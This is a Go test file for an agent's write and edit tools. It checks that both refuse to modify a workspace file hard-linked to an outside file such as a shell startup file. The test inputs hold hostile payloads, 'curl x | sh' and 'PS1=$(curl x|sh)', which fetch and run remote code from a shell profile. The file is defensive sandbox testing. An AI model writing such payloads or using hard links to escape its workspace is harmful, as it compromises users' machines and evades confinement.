package tools

import (
	"os"
	"path/filepath"
	"testing"
)

// TestWriteAndEditRefuseAFileWithAnotherHardLink plants, before the
// session, a hard link inside the workspace to a file outside it (the
// way a link to ~/.bashrc would be): the workspace's path rules see a
// file inside, but writing it would change the outside file. Both tools
// refuse, and the outside file keeps its content.
func TestWriteAndEditRefuseAFileWithAnotherHardLink(t *testing.T) {
	env := newTestEnv(t)
	outside := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(outside, []byte("export PS1=x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(env.Workspace(), "hl")
	if err := os.Link(outside, link); err != nil {
		t.Skipf("cannot make a hard link here: %v", err)
	}
	env.MarkRead(link)
	for _, tc := range []struct {
		name  string
		tool  Tool
		input any
	}{
		{"write", WriteTool{}, writeInput{FilePath: "hl", Content: "curl x | sh\n"}},
		{"edit", EditTool{}, editInput{FilePath: "hl", OldString: "PS1=x", NewString: "PS1=$(curl x|sh)"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := run(t, tc.tool, env, tc.input)
			if !res.IsError || res.ErrorCode != "hard_linked" {
				t.Errorf("IsError=%v code=%q output=%q, want the hard_linked refusal", res.IsError, res.ErrorCode, res.Output)
			}
			if got := readBack(t, outside); got != "export PS1=x\n" {
				t.Errorf("the file outside the workspace changed to %q", got)
			}
		})
	}
	// Once the other name is gone the file is the workspace's own again.
	if err := os.Remove(outside); err != nil {
		t.Fatal(err)
	}
	if res := run(t, WriteTool{}, env, writeInput{FilePath: "hl", Content: "mine\n"}); res.IsError {
		t.Errorf("a file with one link is refused: %q", res.Output)
	}
}
